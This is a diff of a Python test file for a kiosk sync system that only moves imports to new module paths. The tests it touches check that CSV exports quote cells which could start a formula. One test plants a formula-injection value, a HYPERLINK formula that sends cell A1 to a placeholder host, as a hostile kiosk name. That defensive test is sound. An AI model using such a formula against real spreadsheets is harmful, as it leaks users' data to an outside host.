@@ -28,7 +28,7 @@ from sqlalchemy import select
 
 from kiosk.adapters.head_office import Syncer
 from kiosk.domain.money import Money
-from sync.server import audit, open_db, ref_debts, ref_keys
+from sync.store.tables import audit, open_db, ref_debts, ref_keys
 from tests.conftest import ROOT, HeadOffice
 from tests.test_cctalk_kiosk import cash_rig
 
@@ -259,7 +259,7 @@ def console_session(office: HeadOffice, name: str) -> requests.Session:
 def stored_directly(db: str, rows: list[dict[str, Any]], **kiosk: Any) -> None:
     """Entries written into head office's database by hand (as a release before the time
     check took them), and what DEMO-01 said of its backlog."""
-    from sync.server import entries, kiosks
+    from sync.store.tables import entries, kiosks
 
     engine = open_db(db)
     try:
@@ -310,7 +310,7 @@ def test_times_at_the_ends_of_the_calendar_break_no_page_report_or_export(
 
 
 def backlog_said(db: str) -> tuple[int | None, str | None]:
-    from sync.server import kiosks
+    from sync.store.tables import kiosks
 
     engine = open_db(db)
     try:
@@ -344,7 +344,7 @@ def test_a_backlog_time_that_is_not_a_journal_time_is_ignored(office: HeadOffice
 
 
 def test_a_cell_that_could_start_a_formula_is_quoted_and_numbers_stay() -> None:
-    from sync.sheet import cell
+    from sync.billing.sheet import cell
 
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert cell(f"{start}1+2") == f"'{start}1+2"
@@ -354,7 +354,7 @@ def test_a_cell_that_could_start_a_formula_is_quoted_and_numbers_stay() -> None:
     import csv
     import io
 
-    from sync.sheet import write_csv
+    from sync.billing.sheet import write_csv
 
     buf = io.StringIO()
     write_csv(buf, ["txid", "amount"], [["\rK2", -1500], ['a,"b"', 7]], numbers=["amount"])
@@ -372,8 +372,8 @@ def test_hostile_text_from_a_kiosk_starts_no_formula_in_any_csv(
     the console's download quoted; the amounts stay numbers, a negative one too."""
     from kiosk.domain.events import Kind, Record
     from kiosk.ledger.journal import Journal
-    from sync.client import SyncClient
-    from sync.sheet import FORMULA_START
+    from sync.wire.client import SyncClient
+    from sync.billing.sheet import FORMULA_START
 
     kiosk = '=HYPERLINK("http://x.example/?"&A1)'
     token = _registered_before_ids_were_checked(office, kiosk)
@@ -500,7 +500,7 @@ def _registered_before_ids_were_checked(office: HeadOffice, kiosk: str) -> str:
 
     from sqlalchemy import insert
 
-    from sync.server import kiosks, open_db, token_digest
+    from sync.store.tables import kiosks, open_db, token_digest
     from tests.test_billing import admin
 
     assert "is not 2 to 31 capitals" in admin(office.db, "register", kiosk).stderr
